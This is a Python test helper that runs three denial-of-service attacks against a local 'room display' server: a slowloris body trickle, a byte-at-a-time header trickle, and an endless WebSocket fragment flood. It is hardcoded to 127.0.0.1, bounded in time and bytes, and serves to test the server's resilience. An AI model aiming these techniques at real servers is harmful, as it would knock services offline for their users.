"""What someone on the room's network can throw at the room display, run in a process of its own (so that the test's
process holds only the server's file descriptors) against 127.0.0.1 only, for a bounded time:

    python room_attacks.py slowloris PORT CONNECTIONS SECONDS   requests whose body comes a byte at a time
    python room_attacks.py headers PORT CONNECTIONS SECONDS     requests whose head comes a byte at a time
    python room_attacks.py fragments PORT CONNECTIONS SECONDS   WebSocket messages in fragments that never end

A connection the server closes is opened again at once. Printed at the end, one JSON line: connections opened,
closed by the server, the most held open at once, and the bytes sent.
"""

from __future__ import annotations

import base64
import json
import os
import resource
import selectors
import socket
import sys
import time

HOST = "127.0.0.1"
MOST_FRAGMENT_BYTES = 256 * 1024 * 1024   # the fragment flood stops here whatever the server does


class Attack:
    def __init__(self, kind: str, port: int, connections: int, seconds: float) -> None:
        self.kind, self.port, self.connections, self.seconds = kind, port, connections, seconds
        self.selector = selectors.DefaultSelector()
        self.open: dict[socket.socket, int] = {}   # socket -> bytes of its trickle sent
        self.unsent: dict[socket.socket, bytes] = {}   # the rest of a frame the socket did not take yet
        self.opened = self.closed_by_server = self.most_open = self.sent = 0

    def _head(self) -> bytes:
        host = f"Host: {HOST}:{self.port}\r\n"
        if self.kind == "slowloris":
            return (f"POST /api/remote/sign-in HTTP/1.1\r\n{host}Content-Type: application/json\r\n"
                    "Content-Length: 100000\r\n\r\n").encode()
        if self.kind == "headers":
            return f"GET /api/state HTTP/1.1\r\n{host}".encode()
        key = base64.b64encode(os.urandom(16)).decode()
        return (f"GET /ws?page=phone HTTP/1.1\r\n{host}Upgrade: websocket\r\nConnection: Upgrade\r\n"
                f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode()

    def _connect(self) -> None:
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex((HOST, self.port))
        self.selector.register(connection, selectors.EVENT_WRITE)
        self.open[connection] = -1   # the head is not sent yet (-2: a WebSocket's head sent, its answer awaited)
        self.opened += 1

    def _gone(self, connection: socket.socket, by_server: bool = True) -> None:
        self.selector.unregister(connection)
        self.open.pop(connection, None)
        self.unsent.pop(connection, None)
        connection.close()
        if by_server:
            self.closed_by_server += 1

    def _trickle(self, connection: socket.socket) -> None:
        """One more piece: a byte of the body or the head, or a fragment of the never-ending message."""
        sent = self.open[connection]
        try:
            if sent == -1:
                connection.send(self._head())
                # a WebSocket waits for the server's answer to its request (the first state comes with it)
                self.open[connection] = -2 if self.kind == "fragments" else 0
                return
            if sent == -2:   # the first frame of a text message, not the last (FIN clear)
                self.open[connection] = 0
                self._frame(connection, 0x01)
                return
            if self.kind == "fragments":
                self._frame(connection, 0x00)
            else:
                connection.send(b"x" if self.kind == "slowloris" else b"X-Slow: 1\r\n"[sent % 11:sent % 11 + 1])
                self.sent += 1
                self.open[connection] = sent + 1
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            self._gone(connection)

    def _frame(self, connection: socket.socket, opcode: int) -> None:
        """Frames as long as the socket takes them; the rest of a frame cut short goes first next time."""
        payload = b"y" * 16000
        while self.sent < MOST_FRAGMENT_BYTES:
            frame = self.unsent.pop(connection, None)
            if frame is None:
                frame = bytes([opcode, 0x80 | 126]) + len(payload).to_bytes(2, "big") + b"\0\0\0\0" + payload
                opcode = 0x00   # the next ones continue the message
            sent = connection.send(frame)
            self.sent += sent
            if sent < len(frame):
                self.unsent[connection] = frame[sent:]
                return

    def run(self) -> dict[str, int]:
        ends = time.monotonic() + self.seconds
        next_trickle = 0.0
        while time.monotonic() < ends:
            while len(self.open) < self.connections:
                self._connect()
            self.most_open = max(self.most_open, len(self.open))
            now = time.monotonic()
            for key, _events in self.selector.select(timeout=0.05):
                connection = key.fileobj
                try:
                    if connection.recv(65536) == b"":   # the server closed it
                        self._gone(connection)
                        continue
                    if self.open.get(connection) == -2:
                        self._trickle(connection)   # the server answered the upgrade: the flood starts
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    self._gone(connection)
                    continue
                if self.open.get(connection, 0) == -1:
                    self._trickle(connection)   # connected: the head goes now
                    if connection in self.open:
                        self.selector.modify(connection, selectors.EVENT_READ)
            if self.kind == "fragments":
                for connection in list(self.open):
                    if self.open.get(connection, -1) >= 0:
                        self._trickle(connection)
            elif now >= next_trickle:   # every held connection sends one more byte, twice a second
                next_trickle = now + 0.5
                for connection in list(self.open):
                    if self.open.get(connection, -1) >= 0:
                        self._trickle(connection)
        for connection in list(self.open):
            self._gone(connection, by_server=False)
        return {"opened": self.opened, "closed_by_server": self.closed_by_server, "most_open": self.most_open,
                "sent": self.sent}


def main() -> None:
    kind, port, connections, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, connections + 256)), hard))
    print(json.dumps(Attack(kind, port, connections, seconds).run()), flush=True)


if __name__ == "__main__":
    main()
